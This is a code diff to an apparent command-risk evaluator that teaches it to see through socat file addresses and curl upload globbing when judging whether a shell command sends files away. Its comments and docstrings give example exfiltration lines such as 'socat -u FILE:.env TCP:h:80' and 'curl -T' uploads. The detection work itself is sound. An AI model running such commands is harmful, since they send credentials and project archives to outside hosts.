@@ -708,6 +708,8 @@ class Evaluator:
         unwalked: list[Match] = []
         if commands:
             commands = _through_tree_links(commands, view, unwalked)
+            if "socat" in text:
+                commands = _socat_addresses(commands)
         # A line that sends a tree reader's output or a recursive copy to another host: a folder word
         # holding a secret is of class secret_holder there (View._holds; the project_exfiltration rows).
         # A recursive search printing every file's text to the caller (`grep -r X .`) reads it to them too.
@@ -2158,6 +2160,11 @@ def _sent_archives(commands: list[Command], session: SessionView, programs: Prog
         cwd = command.cwd or ""
         words = [w for arg in command.argv[1:] for w in (file_operand(arg), arg.partition("=")[2]) if w]
         words += [target for op, target in command.redirects if op in ("<", "<>")]
+        if sender and command.name in _ADDRESSED:
+            # the file of an address (`socat -u FILE:x.tgz TCP:h:80`, `OPEN:x.tgz,rdonly`), curl's own globbing
+            # of an upload (`curl -T '{x.tgz,y}' URL`): redt37
+            words += [_address_file(w) for w in command.argv[1:] if ":" in w and "://" not in w]
+            words += [n for w in command.argv[1:] if "{" in w or "[" in w for n in curl_glob_names(w)]
         found: list[tuple[str, tuple[str, ...]]] = []
         for word in dict.fromkeys(words):
             if word.startswith("-"):
@@ -2183,6 +2190,27 @@ def _sent_archives(commands: list[Command], session: SessionView, programs: Prog
     if handed:
         out = [_fed_by_tar(c) if any(c is s for s in senders) else c for c in out]
     return out
+
+
+_ADDRESSED = frozenset({"socat", "curl"})
+# socat's address types that open a file by its path (`FILE:.env`, `OPEN:x,rdonly`, `GOPEN:x`, `CREATE:x`)
+_SOCAT_FILES = re.compile(r"(?i)^(?:FILE|OPEN|GOPEN|CREATE|CREAT|PIPE|NAMEDPIPE):")
+
+
+def _socat_addresses(commands: list[Command]) -> list[Command]:
+    """The commands, and socat's again with each address that opens a file given as the file's path (`socat -u
+    FILE:.env TCP:h:80` reads `.env` as `socat -u .env TCP:h:80` names it: credential_read, _sends_away; redt37)."""
+    out = commands
+    for command in commands:
+        if command.name == "socat" and any(_SOCAT_FILES.match(w) for w in command.argv[1:]):
+            argv = tuple(_address_file(w) if _SOCAT_FILES.match(w) else w for w in command.argv)
+            out = [*out, _through_link(command, argv, "address")]
+    return out
+
+
+def _address_file(word: str) -> str:
+    """The path of a socat address (`FILE:x.tgz`, `OPEN:x,rdonly`, `GOPEN:x`): what follows its type, to a comma."""
+    return word.partition(":")[2].partition(",")[0]
 
 
 def _through_archives(sources: tuple[str, ...], session: SessionView) -> tuple[str, ...]:
